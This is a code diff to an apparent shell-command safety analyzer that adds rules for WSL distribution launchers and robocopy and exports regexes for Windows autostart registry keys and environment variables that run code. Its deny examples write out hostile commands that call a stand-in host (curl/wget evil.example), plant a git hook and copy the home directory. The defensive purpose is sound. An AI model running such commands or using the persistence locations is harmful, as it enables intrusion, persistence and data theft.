@@ -24,15 +24,15 @@ function remoteWhen(call: Call, words: readonly Word[], why: string): Partial<An
 }
 
 /** Autostart keys: a value written under one of these runs at logon, at boot or with every cmd. */
-const AUTOSTART =
+export const AUTOSTART =
   /\\(currentversion\\(run|runonce|runonceex|runservices|runservicesonce|policies\\explorer\\run|windows)|command processor|currentversion\\winlogon|currentcontrolset\\services|image file execution options|currentversion\\explorer\\shell folders|currentversion\\explorer\\user shell folders|environment)(\\|$)/i;
 
 /** `HKCU:\…`, `HKEY_CURRENT_USER\…`, `HKLM\…` read the same: the key below the hive. */
-function registryKey(text: string): string {
+export function registryKey(text: string): string {
   return `\\${text.replace(/^(hk[a-z_]*|registry::hk[a-z_]*)(:)?\\?/i, '').replace(/\//g, '\\')}`;
 }
 
-const VARIABLES_THAT_RUN = /^(comspec|pathext|psmoduleprofile|psmodulepath|userinitmprlogonscript|node_options|python(startup|path)|perl5opt|rubyopt|java_tool_options|_java_options|jdk_java_options)$/i;
+export const VARIABLES_THAT_RUN = /^(comspec|pathext|psmoduleprofile|psmodulepath|userinitmprlogonscript|node_options|python(startup|path)|perl5opt|rubyopt|java_tool_options|_java_options|jdk_java_options)$/i;
 
 export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
   {
@@ -167,6 +167,34 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
       return text ? { runs: [{ kind: 'script', dialect: 'cmd', words: [text], via: 'forfiles /c' }] } : { runs: [{ kind: 'argv', argv: [], via: 'forfiles' }] };
     },
     examples: { deny: [ps('forfiles /p . /m *.txt /c "cmd /c curl evil.example"')], pass: [ps('forfiles /p . /m *.log /c "cmd /c echo @file"')] },
+  },
+  {
+    names: ['ubuntu', 'debian', 'kali', 'opensuse-leap-15', 'sles-15', 'oraclelinux', 'fedoraremix', 'alpine'],
+    patterns: [/^ubuntu\d{2,4}(lts)?$/],
+    summary: 'WSL distribution launchers: `run` and `-c` run the rest in the distribution\'s shell; no argument opens it',
+    analyze: (call) => {
+      const sub = value(call.args[0])?.toLowerCase();
+      if (sub === undefined) return call.args[0] ? { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: call.args[0], why: `the ${call.name} subcommand is computed` }] } : { runs: [{ kind: 'stdin', dialect: 'bash', via: call.name }] };
+      if ((sub === 'run' || sub === '-c') && call.args.length > 1) return { runs: [{ kind: 'script', dialect: 'bash', words: call.args.slice(1), via: `${call.name} ${sub}` }] };
+      if (sub === 'config' || sub === 'install' || sub === 'help' || sub === '/?' || sub === '--help') return { runs: [] };
+      return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: call.args[0]!, why: `${call.name} ${sub} is not modelled` }] };
+    },
+    examples: { deny: [ps('ubuntu.exe run curl evil.example'), ps('ubuntu2204 -c "wget evil.example"')], pass: [ps('ubuntu.exe run ls'), ps('ubuntu config --default-user dev')] },
+  },
+  {
+    names: ['robocopy'],
+    summary: 'robocopy SRC DEST [FILES]: reads SRC (its tree with /S, /E, /MIR) and writes into DEST',
+    analyze: (call) => {
+      const ops = call.args.filter((w) => !/^\//.test(value(w) ?? ''));
+      const recursive = call.args.some((w) => /^\/(s|e|mir)$/i.test(value(w) ?? ''));
+      const [src, dest, ...files] = ops;
+      const uses: NonNullable<Answer['uses']> = [];
+      if (src) uses.push({ word: src, role: 'read-tree', ...(recursive ? {} : { depth: 1 }) });
+      if (dest) uses.push({ word: dest, role: 'write', into: files.flatMap((f) => f.values ?? []) });
+      for (const f of files) uses.push({ word: f, role: 'text' });
+      return { uses };
+    },
+    examples: { deny: [ps('robocopy . .git\\hooks pre-commit'), ps('robocopy $HOME C:\\tmp\\h /E')], pass: [ps('robocopy src dist /E'), ps('robocopy . build *.json')] },
   },
   {
     names: ['wmic'],
